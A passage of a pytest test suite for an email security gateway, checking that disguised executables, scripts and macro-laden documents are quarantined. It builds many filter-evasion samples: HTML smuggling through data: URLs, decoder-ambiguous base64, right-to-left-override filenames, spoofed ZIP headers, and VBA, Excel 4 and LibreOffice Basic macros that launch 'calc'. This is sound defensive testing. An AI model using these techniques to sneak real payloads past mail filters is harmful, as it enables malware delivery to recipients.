        att = part("text/plain", b"", name="notes.txt", cte="").replace(
            b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(notes) + hidden + b64(exe), 1)
    else:
        cte = {"blank-after-base64": "base64 ", "base64-semicolon": "base64;", "x-base64": "x-base64"}[shape]
        att = part("text/plain", b"", name="notes.txt", cte="").replace(
            b"\r\n\r\n", f"\r\nContent-Transfer-Encoding: {cte}\r\n\r\n".encode() + b64(exe), 1)
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[exe]))


def test_a_text_body_readers_decode_differently_is_not_taken_for_the_message_text(gw: GatewayProcess,
                                                                                  raw_sink: RawSink) -> None:
    # Base64 with one character too many: Python's email package gives the
    # text still encoded (no uuencoded file in it), a lenient decoder the
    # text with setup.exe uuencoded in it, which clients offer as a file.
    mail = Mail("uu-body-one-too-many")
    exe = pe(mail.tag)
    body = (mail.readable + "\r\n\r\n").encode() + uuencode(exe, "setup.exe")
    body += b" " * (-len(body) % 3)
    text_part = part("text/plain; charset=us-ascii", b"", cte="").replace(
        b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(body) + b"A\r\n", 1)
    qid, tx = deliver(gw, raw_sink, mail, mail.build(multipart([text_part])))
    assert b64head(body) not in tx.wire, "the ambiguous body went to the agent"
    assert wire_problems(tx) == [] and b"could not be examined" in tx.data
    kept = [p.read_bytes() for p in (gw.objects / "quarantine").rglob("*") if p.is_file()]
    assert any(b64head(body) in k for k in kept), "the body is not in quarantine"
    assert held(gw, qid) is None


@pytest.mark.parametrize("shape", ["inline-text-no-name", "inline-octet-no-name", "garbage-in-base64",
                                   "uppercase-base64"])
def test_an_executable_in_an_odd_shape_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
    mail = Mail(f"odd-{shape}")
    exe = pe(mail.tag)
    if shape == "inline-text-no-name":
        att = part("text/plain; charset=utf-8", exe, disposition="inline", extra=["Content-Disposition: inline"])
    elif shape == "inline-octet-no-name":
        att = part("application/octet-stream", exe, extra=["Content-Disposition: inline"])
    elif shape == "garbage-in-base64":
        # Characters outside the alphabet: lenient decoders skip them.
        att = part("application/pdf", b"", name="invoice.pdf", cte="")
        att = att.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                          b64(exe).replace(b"\r\n", b"*!\r\n"), 1)
    else:
        att = part("application/pdf", b"", name="invoice.pdf", cte="")
        att = att.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: BASE64 \r\n\r\n" + b64(exe), 1)
    case = mail.case(multipart([mail.body(), att]), files=[exe])
    fail_closed(gw, raw_sink, mail, case)


@pytest.mark.parametrize("shape", ["script-type-comment", "digest-comment", "rfc822-comment", "rfc822-blanks"])
def test_a_content_type_with_a_comment_hides_nothing(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
    """An RFC 2045 reader drops a comment from the Content-Type (Mozilla
    stops at the blank), where Python keeps it in the type: a script type,
    a digest whose parts are messages, or an attached message, that the
    gateway would take for a type nobody knows (or for plain text)."""
    mail = Mail(f"ctype-{shape}")
    exe = pe(mail.tag)
    if shape == "script-type-comment":
        blob = f"// {mail.tag}\r\n".encode() + JSCRIPT
        att = part("application/x-javascript (c)", blob, extra=["Content-Disposition: attachment"])
        files, markers = [blob], [b"ActiveXObject"]
    elif shape == "digest-comment":
        # A digest's parts are messages by default (RFC 2046 5.1.5): to
        # Python this one is headerless text, to Thunderbird a message
        # with setup.exe attached.
        inner = (f"X-Tag: {mail.tag}\r\nMIME-Version: 1.0\r\n".encode()
                 + multipart([text("inner"), part("application/octet-stream", exe, name="setup.exe")],
                             boundary="inner"))
        att = b'Content-Type: multipart/digest (c); boundary="dg"\r\n\r\n--dg\r\n\r\n' + inner + b"\r\n--dg--\r\n"
        files, markers = [exe], []
    else:
        ctype = "message/rfc822 (c)" if shape == "rfc822-comment" else "message / rfc822"
        att = part(ctype, _inner_message(mail.tag, exe), cte="7bit", name="fwd.eml")
        files, markers = [exe], []
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=files, markers=markers))


@pytest.mark.parametrize("shape", ["href-octet-stream", "entity-spelled-scheme", "image-type-with-download",
                                   "html-page-in-iframe", "iframe-srcdoc", "utf-16", "second-inline-html",
                                   "attached-message-html"])
def test_a_file_carried_in_the_html_as_a_data_url_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                   shape: str) -> None:
    """HTML smuggling: the HTML holds the file itself, as a data: URL an
    agent saves with one click from a browser-based desktop; the gateway
    never sees it as a part.  Such HTML is not examined text: it goes to
    quarantine, and the plain text still goes."""
    mail = Mail(f"html-{shape}")
    exe = pe(mail.tag)
    url = b"application/octet-stream;base64," + base64.b64encode(exe)
    link = b'<a href="data:' + url + b'" download="invoice.exe">your invoice</a>'
    if shape == "entity-spelled-scheme":
        # Character references are decoded in attribute values, and the URL
        # parser drops tabs and line ends: still a data: URL to a browser.
        link = b'<a href="  &#100;a&#x09;ta&colon;' + url + b'" download>your invoice</a>'
    elif shape == "image-type-with-download":
        link = b'<a href="data:image/png;base64,' + base64.b64encode(exe) + b'" download="invoice.exe">invoice</a>'
    elif shape == "html-page-in-iframe":
        page = f"<script>/* {mail.tag} */ location='https://evil.example/'</script>".encode()
        link = b'<iframe src="data:text/html;base64,' + base64.b64encode(page + exe) + b'"></iframe>'
    elif shape == "iframe-srcdoc":
        # A page in the page: the srcdoc's HTML is escaped once more.
        link = b'<iframe srcdoc="' + link.replace(b'"', b"&quot;").replace(b"<", b"&lt;") + b'"></iframe>'
    html = f"<html><body><p>{mail.tag}</p>".encode() + link + b"</body></html>\r\n"
    html_part = part("text/html; charset=utf-8", html, cte="base64", disposition="inline")
    if shape == "utf-16":
        # A browser reads it in its charset, where "data:" is other bytes.
        html = html.decode().encode("utf-16")
        html_part = part("text/html; charset=utf-16", html, cte="base64", disposition="inline")
    if shape == "second-inline-html":
        root = multipart([mail.body(), part("text/html", b"<p>hello</p>\r\n", cte="7bit"), html_part])
    elif shape == "attached-message-html":
        inner = envelope_message(html_part, "someone@example.org", "customer@example.net", "fwd")
        root = multipart([mail.body(), part("message/rfc822", inner, cte="7bit", name="fwd.eml")])
    else:
        root = multipart([mail.body(), html_part], subtype="alternative")
    marker = base64.b64encode(exe[:45])
    case = mail.case(root, files=[html], markers=[marker.decode().encode("utf-16")[2:] if shape == "utf-16" else marker])
    fail_closed(gw, raw_sink, mail, case)


def test_inline_images_as_data_urls_leave_the_html_alone(gw: GatewayProcess, raw_sink: RawSink) -> None:
    mail = Mail("html-inline-image")
    png = b"\x89PNG\r\n\x1a\n" + mail.tag.encode()
    html = (f"<html><body><p>{mail.tag}</p>".encode() + b'<img src="data:image/png;base64,'
            + base64.b64encode(png) + b'" alt="logo"><div style="background:url(data:image/gif;base64,R0lGOD)">'
            b"</div></body></html>\r\n")
    root = multipart([mail.body(), part("text/html; charset=utf-8", html, cte="7bit", disposition="inline")],
                     subtype="alternative")
    qid, tx = deliver(gw, raw_sink, mail, mail.build(root))
    assert html.rstrip() in tx.data and b"could not be examined" not in tx.data
    assert wire_problems(tx) == [] and held(gw, qid) is None


@pytest.mark.parametrize("disposition", ["inline", "attachment"])
def test_an_executable_inside_a_message_news_part_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                   disposition: str) -> None:
    """Thunderbird opens message/news as an attached message and lists its
    files; to the gateway it was one leaf of text (its first lines no
    mail header libmagic knows), kept or offloaded as it was."""
    mail = Mail(f"news-{disposition}")
    exe = pe(mail.tag)
    inner = (f"X-Tag: {mail.tag}\r\nMIME-Version: 1.0\r\n".encode()
             + multipart([text("inner"), part("application/octet-stream", exe, name="setup.exe")], boundary="inner"))
    att = b"Content-Type: message/news\r\n" + (b'Content-Disposition: attachment; filename="fwd.eml"\r\n'
                                               if disposition == "attachment" else b"") + b"\r\n" + inner
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[exe]))


@pytest.mark.parametrize("field,declared", [("Content-Name", "application/octet-stream"),
                                            ("X-Sun-Data-Name", "text/plain"),
                                            ("Content-Name", "text/plain; name=\"notes.txt\"")])
def test_a_name_in_a_content_name_field_is_seen(gw: GatewayProcess, raw_sink: RawSink, field: str,
                                                 declared: str) -> None:
    """Thunderbird names a file by Content-Name or X-Sun-Data-Name when its
    parameters give none: a script the gateway kept as nameless text was
    saved as invoice.js."""
    mail = Mail(f"field-name-{field}")
    blob = f"// {mail.tag}\r\n".encode() + JSCRIPT
    att = part(declared, blob, extra=["Content-Disposition: attachment", f"{field}: invoice.js"])
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[blob], markers=[b"ActiveXObject"]))


# ------------------------------------------------------------ archives and old Office files, where allowed


WIDE_ALLOWED = {"application/pdf": ["pdf"], "text/plain": ["txt"], "application/zip": ["zip"],
                "application/x-7z-compressed": ["7z"], "application/gzip": ["gz", "tgz"],
                "application/x-tar": ["tar"], "application/msword": ["doc"], "application/vnd.ms-excel": ["xls"],
                "application/vnd.oasis.opendocument.text": ["odt"]}


@pytest.fixture(scope="module")
def gw_wide(tmp_path_factory: pytest.TempPathFactory, raw_sink: RawSink) -> Iterator[GatewayProcess]:
    """A gateway whose route allows ZIP, 7-Zip, gzip and tar archives, old
    Word and Excel files and OpenDocument texts, and whose links anyone on
    loopback may click, otherwise as ``gw``."""
    policies = [{"name": "empty_attachment"}, {"name": "refuse_executables"}, {"name": "refuse_spoofed"},
                {"name": "allowed_types", "settings": {"allow": WIDE_ALLOWED}}, {"name": "offload_large"}]
    with GatewayProcess(tmp_path_factory.mktemp("hostile-zip"), next_hop=f"smtp://127.0.0.1:{raw_sink.port}",
                        threshold=THRESHOLD, route={"tls": "none", "policies": policies, **autoreply(raw_sink)},
                        sections={"gateway": {"processes": 1}, "worker": LIMITS, "agents": {"auth": "none"},
                                  "authorization": {"mode": "allow-all"}}) as g:
        yield g


def _renamed_in_local_header(data: bytes, directory_name: bytes, local_name: bytes) -> bytes:
    """A ZIP whose local header for ``directory_name`` says ``local_name``
    (same length); its central directory still says ``directory_name``."""
    assert len(directory_name) == len(local_name)
    i = data.index(directory_name)  # the first: the local header
    return data[:i] + local_name + data[i + len(local_name):]


@pytest.mark.parametrize("shape", ["program", "rtlo-program", "trailing-dot-program", "zip-in-zip", "7z-in-zip",
                                   "local-header-says-exe", "two-archives"])
def test_a_program_inside_an_allowed_zip_is_not_delivered(gw_wide: GatewayProcess, raw_sink: RawSink,
                                                          shape: str) -> None:
    """Where ZIP archives are allowed, one that holds a program (by any
    name a person or a reader sees), an archive the gateway does not open,
    or two readings of itself never reaches the agent."""
    mail = Mail(f"zip-{shape}")
    exe = pe(mail.tag)
    readme = ("readme.txt", f"Claim documents {mail.tag}\n".encode())
    if shape == "program":
        data = zip_of([readme, ("setup.exe", exe)])
    elif shape == "rtlo-program":
        data = zip_of([readme, ("invoice\u202etxt.exe", exe)])
    elif shape == "trailing-dot-program":
        data = zip_of([readme, ("invoice.js. ", b"new ActiveXObject('WScript.Shell').Run('calc');")])
    elif shape == "zip-in-zip":
        data = zip_of([readme, ("more.zip", zip_of([("setup.exe", exe)]))])
    elif shape == "7z-in-zip":
        data = zip_of([readme, ("more.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + exe)])
    elif shape == "local-header-says-exe":
        data = _renamed_in_local_header(zip_of([readme, ("notes.txt", exe)]), b"notes.txt", b"setup.exe")
    else:
        # 7-Zip opens the first archive, zipfile (and the examination) the last.
        data = zip_of([("setup.exe", exe)]) + zip_of([readme])
    case = mail.case(multipart([mail.body(), part("application/zip", data, name="documents.zip")]),
                     files=[data], name="documents.zip")
    fail_closed(gw_wide, raw_sink, mail, case)


def test_a_plain_zip_passes_where_zip_is_allowed(gw_wide: GatewayProcess, raw_sink: RawSink) -> None:
    mail = Mail("zip-plain")
    data = zip_of([("readme.txt", f"Claim documents {mail.tag}\n".encode()), ("scan.pdf", pdf_bytes(3000))])
    _, tx = deliver(gw_wide, raw_sink, mail, mail.build(multipart([mail.body(), part("application/zip", data,
                                                                                      name="documents.zip")])))
    assert b64head(data) in tx.wire and b"could not" not in tx.data


def _tar(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize("shape", ["7z", "tar-gz", "tar"])
def test_an_archive_the_gateway_does_not_open_is_not_delivered(gw_wide: GatewayProcess, raw_sink: RawSink,
                                                               shape: str) -> None:
    """A 7-Zip, gzip or tar archive: the gateway never looks inside, so
    what it holds is unexamined, whatever the route's allow-list says."""
    mail = Mail(f"unopened-{shape}")
    exe = pe(mail.tag)
    tar = _tar([("readme.txt", f"Claim documents {mail.tag}\n".encode()), ("setup.exe", exe)])
    if shape == "7z":
        # A 7-Zip signature header, then the (stored) program.
        data, ctype, name = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + exe, "application/x-7z-compressed", \
            "documents.7z"
    elif shape == "tar-gz":
        data, ctype, name = gzip.compress(tar, mtime=0), "application/gzip", "documents.tar.gz"
    else:
        data, ctype, name = tar, "application/x-tar", "documents.tar"
    case = mail.case(multipart([mail.body(), part(ctype, data, name=name)]), files=[data], name=name)
    fail_closed(gw_wide, raw_sink, mail, case)


def _saved_name(disposition: str) -> str:
    """The name a browser saves a download as: ``filename*`` when there is
    one (RFC 6266), else ``filename``."""
    m = re.search(r"filename\*=UTF-8''([^;\s]+)", disposition)
    if m:
        return urllib.parse.unquote(m.group(1))
    m = re.search(r'filename="([^"]*)"', disposition)
    return m.group(1) if m else ""


@pytest.mark.parametrize("hidden", [".js", ".hta", ".vbs"])
def test_a_long_name_keeps_its_extension_when_the_download_is_named(gw_wide: GatewayProcess, raw_sink: RawSink,
                                                                    hidden: str) -> None:
    """A long non-ASCII name whose 200th character ends in ".js" and which
    goes on to ".txt": the policies judge a text file, so the download the
    link gives must be saved as one, never cut to the ".js" in the middle."""
    mail = Mail(f"longname-{hidden[1:]}")
    stem = "\u00e9" + "a" * (199 - len(hidden))
    name = stem + hidden + ".txt"
    assert len(stem + hidden) == 200
    script = (f"// {mail.tag}\r\nvar s = WScript.CreateObject('WScript.Shell');\r\ns.Run('calc');\r\n" * 800).encode()
    root = multipart([mail.body(), part("text/plain", script, raw_name=rfc2231(name))])
    _, tx = deliver(gw_wide, raw_sink, mail, mail.build(root))
    links = LINK.findall(readable_text(tx.data).encode())
    assert links, tx.data[-600:]
    with urllib.request.urlopen(links[0].decode(), timeout=30) as r:
        saved = _saved_name(r.headers["Content-Disposition"])
        assert r.read() == script
    assert filetypes.extension(saved) == "txt", saved


def _biff_globals(sheet_type: int) -> bytes:
    """A BIFF8 workbook's globals: BOF, one BOUNDSHEET of ``sheet_type``
    (0 worksheet, 1 Excel 4 macro sheet, 6 VBA module), EOF."""
    bof = struct.pack("<HH", 0x0809, 16) + b"\x00\x06\x05\x00" + bytes(12)
    name = b"\x06\x00Macro1"
    sheet = struct.pack("<HH", 0x0085, 6 + len(name)) + struct.pack("<IBB", 0, 0, sheet_type) + name
    return bof + sheet + struct.pack("<HH", 0x000A, 0)


WORD_FIB = b"\xec\xa5\xc1\x00"


@pytest.mark.parametrize("shape", ["doc-vba", "xls-vba", "xls-macro-sheet", "doc-package", "doc-linked-object"])
def test_an_old_office_file_that_runs_code_is_not_delivered(gw_wide: GatewayProcess, raw_sink: RawSink,
                                                            shape: str) -> None:
    """Where old Word and Excel files are allowed (disarm cannot rewrite
    them), one with a VBA project, an Excel 4 macro sheet, a packaged
    program or a linked object never reaches the agent."""
    mail = Mail(f"ole-{shape}")
    tag = mail.tag.encode()
    word = {"WordDocument": WORD_FIB + tag, "1Table": tag}
    streams = {
        "doc-vba": {**word, "Macros/PROJECT": b"ID=" + tag, "Macros/VBA/ThisDocument": b"Attribute VB_Name"},
        "xls-vba": {"Workbook": _biff_globals(0) + tag, "_VBA_PROJECT_CUR/PROJECT": b"ID=" + tag},
        "xls-macro-sheet": {"Workbook": _biff_globals(1) + tag},
        "doc-package": {**word, "ObjectPool/_1234/\x01Ole10Native": ole10native("setup.exe", pe(mail.tag))},
        "doc-linked-object": {**word, "ObjectPool/_1234/\x01Ole": struct.pack("<II", 0x02000001, 1) + bytes(12)},
    }[shape]
    data = ole_file(streams)
    name, ctype = ("claim.xls", "application/vnd.ms-excel") if shape.startswith("xls") else \
        ("claim.doc", "application/msword")
    case = mail.case(multipart([mail.body(), part(ctype, data, name=name)]), files=[data], name=name)
    fail_closed(gw_wide, raw_sink, mail, case)


def test_a_plain_old_word_file_passes_where_allowed(gw_wide: GatewayProcess, raw_sink: RawSink) -> None:
    mail = Mail("ole-plain")
    data = ole_file({"WordDocument": WORD_FIB + mail.tag.encode(), "1Table": mail.tag.encode()})
    _, tx = deliver(gw_wide, raw_sink, mail, mail.build(multipart([mail.body(), part("application/msword", data,
                                                                                       name="claim.doc")])))
    assert b64head(data) in tx.wire and b"could not" not in tx.data


@pytest.mark.parametrize("shape", ["pdf-script", "docx-file-link"])
def test_an_active_document_uuencoded_in_the_text_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                   shape: str) -> None:
    """A PDF or Office file uuencoded in the text (clients offer it as a
    file) is not disarmed there: one whose type disarm looks at never
    stays in the text unchecked."""
    mail = Mail(f"uu-{shape}")
    if shape == "pdf-script":
        data, name = active_documents.pdf_open_action_js(), "invoice.pdf"
    else:
        data, name = active_documents.docx_file_links(), "statement.docx"
    data += f"%{mail.tag}".encode() if shape == "pdf-script" else b""
    body = (mail.readable + "\r\n\r\n").encode() + uuencode(data, name)
    case = mail.case(text(body.decode(), "text/plain; charset=us-ascii"), files=[data], name=name)
    fail_closed(gw, raw_sink, mail, case)


def _odt(tag: str, extra: list[tuple[str, bytes]] = ()) -> bytes:
    """An OpenDocument text ("mimetype" stored first, as LibreOffice writes it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", f"<office:document-content><text>{tag}</text></office:document-content>")
        z.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
        for name, data in extra:
            z.writestr(name, data)
    return out.getvalue()


def test_an_opendocument_file_with_macros_is_not_delivered(gw_wide: GatewayProcess, raw_sink: RawSink) -> None:
    """Where OpenDocument texts are allowed, one with a LibreOffice Basic
    module (bound to the document's open event) never reaches the agent;
    one without macros does."""
    mail = Mail("odt-basic")
    module = b'<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>'
    data = _odt(mail.tag, [("Basic/Standard/Module1.xml", module), ("Basic/script-lc.xml", b"<library/>")])
    case = mail.case(multipart([mail.body(), part("application/vnd.oasis.opendocument.text", data,
                                                  name="claim.odt")]), files=[data], name="claim.odt")
    fail_closed(gw_wide, raw_sink, mail, case)
    plain_mail = Mail("odt-plain")
    plain = _odt(plain_mail.tag)
    _, tx = deliver(gw_wide, raw_sink, plain_mail, plain_mail.build(multipart([
        plain_mail.body(), part("application/vnd.oasis.opendocument.text", plain, name="claim.odt")])))
    assert b64head(plain) in tx.wire and b"could not" not in tx.data
